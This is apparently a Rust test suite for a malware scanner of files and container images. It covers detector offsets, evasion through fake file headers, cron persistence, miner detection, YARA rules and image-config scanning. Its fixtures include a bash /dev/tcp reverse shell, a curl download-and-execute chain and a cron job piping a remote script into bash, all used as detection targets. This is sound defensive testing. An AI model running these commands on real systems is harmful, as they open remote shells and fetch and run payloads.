//! What the other stations rely on: offsets, places, ceilings, the user's rules.

use inspect::{Inspector, Place, RuleFile, RulePack, kind::sniff};
use model::{
    Category, FileKind, HistoryLine, ImageConfig, Location, Maturity, Observation, ProblemKind, Severity, Weight,
};
use proptest::prelude::*;

const SHELL: &str = "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
const RULE: &str = "yara-reverse-shell-script";

fn pack() -> RulePack {
    RulePack::new(Vec::new()).expect("no user rules")
}

fn seen<'a>(observations: &'a [Observation], id: &str) -> &'a Observation {
    let found = observations.iter().find(|seen| seen.detector == id);
    found.unwrap_or_else(|| panic!("{id} did not fire: {observations:#?}"))
}

#[test]
fn utf16_is_read_as_text_and_offsets_point_into_the_file() {
    let text = format!("# first line\n{SHELL}");
    let bytes: Vec<u8> = [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let facts = pack().inspector().content(&bytes);
    assert_eq!(facts.kind, FileKind::Utf16);
    let at = seen(&facts.observations, RULE).offset.expect("a string matched") as usize;
    assert!(bytes[at..].starts_with(b"s\0h\0 \0-\0i\0") || bytes[at..].starts_with(b"b\0a\0s\0h\0"), "at {at}");
}

/// A shell ignores what it takes for a strange first word.
#[test]
fn a_byte_order_mark_before_plain_text_hides_nothing() {
    let bytes = [b"\xff\xfe\n", SHELL.as_bytes()].concat();
    seen(&pack().inspector().content(&bytes).observations, RULE);
}

/// A shell skips a line that it does not understand and runs the next. No first line may keep a detector away.
#[test]
fn what_a_file_claims_to_be_hides_nothing() {
    let pack = pack();
    let mut inspector = pack.inspector();
    let script = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n\
        curl -s http://198.51.100.7/x -o /tmp/.k && chmod +x /tmp/.k && /tmp/.k\n";
    let zeros = [&[0; 5000], b"\n".as_slice()].concat();
    let heads: [&[u8]; 11] = [
        b"\0\n",
        b"\x01\x02\x03\x04\n",
        b"MZ=1\n",
        b"\x1f\x8b\x08\n",
        b"PK\x03\x04\n",
        b"7z\xbc\xaf\x27\x1c\n",
        b"\x7fELF\n",
        b"\x7fELF\x02\x01\x01\n",
        b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\n",
        b"\xfe\xff\n",
        &zeros,
    ];
    for head in heads {
        let facts = inspector.content(&[head, script.as_bytes()].concat());
        for id in ["reverse-shell", "download-and-run", RULE] {
            let found = facts.observations.iter().find(|seen| seen.detector == id);
            let found = found.unwrap_or_else(|| panic!("{id} did not fire behind {head:x?} ({:?})", facts.kind));
            assert_ne!(found.weight, Weight::Fact, "{id} behind {head:x?}");
        }
    }
}

/// Cron skips such a line too.
#[test]
fn what_a_crontab_claims_to_be_hides_nothing() {
    let pack = pack();
    let bytes = b"\0\x01\x02\x03\x04\n* * * * * root curl -s http://203.0.113.7/b.sh | bash\n";
    let place = Place { path: "etc/cron.d/x", mode: 0o644, uid: 0, kind: sniff(bytes), size: bytes.len() as u64 };
    let seen_there = pack.inspector().place(&place, bytes);
    assert_eq!((place.kind, seen(&seen_there, "cron-persistence").weight), (FileKind::Binary, Weight::Proof));
}

/// The kernel looks at less of a header than we do.
#[test]
fn a_program_with_an_odd_header_is_still_one() {
    let miner =
        b"\x7fELF\x02\x01\x00\0 randomx rx/0 cn/r cryptonight stratum+tcp:// mining.subscribe mining.authorize \
        mining.submit donate-level --algo nicehash cpu-max-threads-hint huge-pages-jit";
    let facts = pack().inspector().content(miner);
    assert_eq!(facts.kind, FileKind::Binary);
    seen(&facts.observations, "miner-binary");
}

#[test]
fn offsets_of_a_window_are_offsets_of_the_file() {
    let pack = pack();
    let mut inspector = pack.inspector();
    let first = inspector.content(SHELL.as_bytes());
    let later = inspector.window(SHELL.as_bytes(), 1 << 33, Some(FileKind::Text));
    let (first, later) = (seen(&first.observations, RULE).offset, seen(&later.observations, RULE).offset);
    assert_eq!(first.map(|offset| offset + (1 << 33)), later);
}

#[test]
fn an_archive_longer_than_a_window_is_a_problem() {
    let pack = pack();
    let facts = pack.inspector().window(b"\x1f\x8b\x08 and so on", 0, None);
    assert_eq!(facts.kind, FileKind::Archive);
    assert_eq!(facts.problems.len(), 1);
    assert_eq!(pack.inspector().window(b"\x1f\x8b\x08 and so on", 1 << 25, Some(facts.kind)).problems, []);
    assert_eq!((facts.problems[0].kind, facts.problems[0].unseen_bytes), (ProblemKind::BytesLimit, 13));
}

#[test]
fn user_rules_see_every_file_and_say_what_they_are() {
    let text = r#"
        rule plain { strings: $needle = "needle" condition: $needle }
        rule described {
            meta:
                description = "A needle"
                category = "worm"
                weight = "proof"
                severity = "no such word"
                technique = "T1046"
            strings: $needle = "needle"
            condition: $needle
        }"#;
    let files = vec![RuleFile { name: "mine.yar".to_owned(), text: text.to_owned() }];
    let pack = RulePack::new(files).expect("it compiles");
    let facts = pack.inspector().content(b"hay needle hay");

    let plain = seen(&facts.observations, "yara:mine.plain");
    assert_eq!((plain.category, plain.weight, plain.severity), (Category::Other, Weight::Sign, Severity::Medium));
    assert_eq!((plain.maturity, plain.offset), (Maturity::Draft, Some(4)));
    assert_eq!(plain.summary, "rule plain matches with $needle");
    let described = seen(&facts.observations, "yara:mine.described");
    assert_eq!(
        (described.category, described.weight, described.severity),
        (Category::Worm, Weight::Proof, Severity::Medium)
    );
    assert_eq!((described.title.as_str(), described.techniques.as_slice()), ("A needle", &["T1046".to_owned()][..]));
}

#[test]
fn every_text_of_a_config_is_looked_at_in_its_place() {
    let shell = SHELL.trim().to_owned();
    let config = ImageConfig {
        env: vec!["A=1".to_owned(), format!("HOOK={shell}")],
        entrypoint: vec!["/bin/bash".to_owned(), "-c".to_owned(), shell.clone()],
        labels: [("run".to_owned(), shell.clone())].into(),
        history: vec![HistoryLine::default(), HistoryLine { created_by: shell, ..HistoryLine::default() }],
        ..ImageConfig::default()
    };
    let findings = pack().config(&config);
    let mut places: Vec<_> = findings
        .iter()
        .filter(|finding| finding.observation.detector == RULE)
        .map(|finding| match &finding.location {
            Location::Config { field } => (field.clone(), finding.runs),
            Location::History { line } => (format!("history {line}"), finding.runs),
            other => (format!("{other:?}"), finding.runs),
        })
        .collect();
    places.sort();
    let expected = [
        ("config.Entrypoint", true),
        ("config.Env[1]", false),
        ("config.Labels[\"run\"]", false),
        ("history 1", false),
    ];
    assert_eq!(places, expected.map(|(place, runs)| (place.to_owned(), runs)));
}

/// The heads of every kind of file, so that random bytes get further than the sniffing.
const HEADS: [&[u8]; 8] = [
    b"",
    b"\x7fELF\x02\x01\x01",
    b"\x7fELF\x01\x02\x01",
    b"#!/bin/sh\n",
    b"\xff\xfe",
    b"MZ",
    b"{\"pools\": donate-level ",
    b"<?php $_POST[",
];

fn no_detector_fails(inspector: &mut Inspector<'_>, bytes: &[u8]) {
    let facts = inspector.content(bytes);
    // Random bytes are no archive: what the reader of archives says of them is tested in its own crate.
    let failed = facts.problems.iter().find(|problem| problem.kind == ProblemKind::DetectorFailed);
    assert!(failed.is_none() || facts.kind == FileKind::Archive, "{failed:?}");
}

proptest! {
    #[test]
    fn any_bytes_are_answered(head in 0..HEADS.len(), tail in proptest::collection::vec(any::<u8>(), 0..600)) {
        thread_local! {
            static PACK: &'static RulePack = Box::leak(Box::new(pack()));
        }
        let pack = PACK.with(|pack| *pack);
        no_detector_fails(&mut pack.inspector(), &[HEADS[head], &tail].concat());
    }
}
